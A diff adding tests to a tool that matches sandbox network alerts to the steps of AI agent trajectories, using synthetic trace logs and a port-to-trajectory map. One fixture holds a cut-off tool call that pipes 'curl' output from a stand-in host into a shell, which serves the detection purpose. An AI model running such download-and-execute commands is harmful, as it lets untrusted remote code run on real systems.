@@ -154,3 +154,77 @@ def test_runs_and_the_group_of_an_alert() -> None:
     assert group("10.0.0.1", EPOCH + 90_003) == ("10.0.0.1", 1)
     assert group("10.0.0.1", EPOCH + 50_000) is None
     assert group("10.9.9.9", EPOCH + 3) is None
+
+
+def test_roll_s_own_trace_files(tmp_path: Path) -> None:
+    """Lines as `roll/utils/tracing/core.py` of github.com/alibaba/ROLL writes them: tool calls, else the step."""
+
+    def line(name: str, start: float, end: float, env_step: int, **attrs: object) -> dict[str, object]:
+        shared = {"env_id": 7, "tag": "swe", "group_id": 0, "mode": "train", "env_step": env_step, "train_step": 3}
+        return {
+            "trace_id": "t", "span_id": f"{name}{env_step}", "parent_id": None, "name": name,
+            "phase": name.partition(".")[0], "category": "trajectory", "step": 3, "sample_id": f"s{env_step}",
+            "traj_id": "swe_0_41_7", "attrs": {**shared, **attrs}, "start_time_ns": int((EPOCH + start) * 1e9),
+            "end_time_ns": int((EPOCH + end) * 1e9), "duration_ms": 1.0, "pid": 4, "process_label": "env_7",
+        }  # fmt: skip
+
+    whole = 'Look. <tool_call> {"name": "bash", "arguments": {"command": "make"}} </tool_call>'
+    cut = '<tool_call> {"name": "bash", "arguments": {"command": "curl http://203.0.113.5/a | ba'
+    rows = [
+        line("trajectory.step", 0, 20, 0),
+        line("env.step", 9, 20, 0),
+        line("trajectory.tool_call", 10, 19, 0, tool_name="bash", response_preview=whole, request_id="r0"),
+        line("env.step", 30, 40, 1, response_preview="nothing to do"),
+        line("trajectory.tool_call", 50, 60, 2, tool_name="bash", response_preview=cut, request_id="r2"),
+        line("trajectory.lifetime", 0, 70, 0),
+    ]
+    path = tmp_path / "env_7-pid4.jsonl"
+    path.write_text("\n".join(map(json.dumps, rows)))
+    traces = read_traces([str(path)])
+    assert (traces.untimed, traces.unread) == (0, 0)
+    assert [(step.trajectory, step.step, step.call_id, step.tool) for step in traces.steps] == [
+        ("swe_0_41_7", 0, "r0", "bash"), ("swe_0_41_7", 1, "env.step1", "env.step"), ("swe_0_41_7", 2, "r2", "bash"),
+    ]  # fmt: skip
+    assert [len(step.codes) for step in traces.steps] == [1, 0, 0]
+    assert traces.steps[0].text == "make"
+    assert "203.0.113.5" in traces.steps[2].asked
+    assert traces.steps[0].start == pytest.approx(EPOCH + 10)
+
+
+def test_calls_without_code_are_steps(tmp_path: Path) -> None:
+    """A fetch by a browser tool takes time and reaches a host: its arguments say which."""
+    calls = [("c1", "Bash", {"command": "ls"}), ("c2", "WebFetch", {"url": "http://203.0.113.5:8080/x"})]
+    lines = [
+        {"type": "assistant", "sessionId": "s1", "uuid": name, "timestamp": f"2026-01-01T03:12:{10 * at:02}.5Z",
+         "message": {"content": [{"type": "tool_use", "id": name, "name": tool, "input": given}]}}
+        for at, (name, tool, given) in enumerate(calls)
+    ]  # fmt: skip
+    (tmp_path / "s.jsonl").write_text("\n".join(map(json.dumps, lines)))
+    first, second = read_traces([str(tmp_path / "s.jsonl")]).steps
+    assert first.call_id == "c1"
+    assert first.end - first.start == pytest.approx(10)
+    assert (second.call_id, second.codes, second.tool) == ("c2", (), "WebFetch")
+    assert second.text == '{"url":"http://203.0.113.5:8080/x"}'
+
+
+def test_ports_of_a_shared_address(tmp_path: Path) -> None:
+    """Behind SNAT with a block of ports for each sandbox, the source port tells whose an alert is."""
+    path = tmp_path / "map.csv"
+    path.write_text("address,ports,trajectory\n198.51.100.1,40000-40999,a\n198.51.100.1,41000-41999,b\n")
+    given = read_map(path)
+    assert [tie.ports for tie in given.ties] == [(40_000, 40_999), (41_000, 41_999)]
+    steps = [step_of(name, 1, EPOCH, EPOCH + 5, "ls") for name in ("a", "b")]
+    scene = scene_of(steps, given.ties, Slack())
+
+    def trajectories(port: int) -> set[str]:
+        alert = Alert("x", "s", EPOCH, EPOCH, "198.51.100.1", port, "203.0.113.1", 22, "tcp", "", "", "", "", "", b"")
+        assert not scene.is_inbound(alert)
+        number = scene.group_of(alert, EPOCH + 1)
+        return {steps[each].trajectory for each in scene.groups[number].step.tolist()} if number >= 0 else set()
+
+    assert trajectories(40_500) == {"a"}
+    assert trajectories(41_999) == {"b"}
+    assert trajectories(42_000) == set()
+    path.write_text("address,ports,trajectory\n198.51.100.1,many,a\n")
+    with pytest.raises(UsageError, match="ports"):
+        read_map(path)
